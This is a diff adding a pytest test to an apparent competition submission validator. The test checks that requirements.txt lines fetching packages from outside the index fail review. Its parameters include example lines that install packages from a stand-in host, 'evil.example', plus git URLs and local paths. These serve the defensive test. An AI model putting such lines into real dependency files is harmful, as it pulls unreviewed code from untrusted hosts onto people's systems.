@@ -414,6 +414,23 @@ def test_code_beside_a_compressed_payload_fails_closed(tmp_path: Path, case: str
     assert "warn" in statuses(plain, "DATA.NO_TRAIN_AT_EVAL")
 
 
+@pytest.mark.parametrize("line", ["--extra-index-url https://evil.example/simple", "-e ./vendored",
+                                  "git+https://github.com/x/y.git", "weights @ https://evil.example/w-1.0.tar.gz",
+                                  "./local_pkg", "-r more.txt", "https://evil.example/pkg.whl"])
+def test_requirements_from_outside_the_index_fail(tmp_path: Path, line: str) -> None:
+    """Threat: requirements.txt fetches a package from a URL, a VCS, a path or another index: what it installs can
+    carry the validation data or a trained model and no review sees it. FILES.REQUIRED fails the line; comments
+    (pip's reading: `#` after whitespace) and plain requirements with versions and markers pass."""
+    folder = make_folder(tmp_path / "bad")
+    (folder / "requirements.txt").write_text(f"numpy\n{line}\n")
+    found = [f for f in validate_folder(folder) if f.rule == "FILES.REQUIRED" and f.status == "fail"]
+    assert [(f.file, f.line) for f in found] == [("requirements.txt", 2)], found
+    good = make_folder(tmp_path / "good")
+    (good / "requirements.txt").write_text("# pip install --find-links https://x/ flash_attn_3\nnumpy  # ok\n"
+                                           "torch==2.9.1+cu128\nbrotli>=1.1,<2; python_version >= '3.10'\n")
+    assert statuses(validate_folder(good), "FILES.REQUIRED") == {"pass"}
+
+
 def _per_seed(**over: object) -> dict:
     """seed_results as the logs of make_folder report them, with `over` applied to seed 2."""
     res = {str(s): {"val_bpb": b, "val_loss": round(_loss(b), 8), "bytes_total": 15_000_000 + len(GOOD_SCRIPT)}
